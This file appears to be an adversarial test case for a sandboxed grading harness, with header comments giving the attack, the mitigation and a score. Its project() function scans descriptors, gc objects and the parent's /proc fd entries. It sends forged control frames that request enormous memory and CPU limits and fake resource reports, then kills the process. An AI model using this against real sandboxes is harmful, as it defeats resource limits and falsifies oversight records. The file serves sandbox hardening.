# Tries: to command the slot: it looks for the control socket among descriptors, in /proc and in gc, and sends "fork",
#   "reap" and "reaped" with no strays.
# Stopped by: closing the slot's socket in the child before any student code runs.
# Score: HALF
# Says: project() ended the whole program
# Process: yes
# Place: after
import gc
import glob
import json
import os
import socket
import struct


def frame(message):
    text = json.dumps(message).encode()
    return struct.pack("!II", len(text), 0) + text


COMMANDS = frame({"op": "reap"}) + frame({"op": "fork", "memory": 2**40, "cpu_seconds": 10**6, "plots": False}) + b"."
COMMANDS += frame({"op": "reaped", "strays": 0, "cpu": -1e9}) + frame({"op": "forked", "pid": 1})


def project(x, table):
    links = [one for one in gc.get_objects() if isinstance(one, socket.socket)]
    for descriptor in range(3, 256):
        try:
            links.append(socket.socket(fileno=os.dup(descriptor)))
        except OSError:
            pass
    for path in glob.glob(f"/proc/{os.getppid()}/fd/*"):
        try:
            os.write(os.open(path, os.O_RDWR), COMMANDS)
        except OSError:
            pass
    for link in links:
        try:
            link.send(COMMANDS)
        except OSError:
            pass
    os._exit(0)
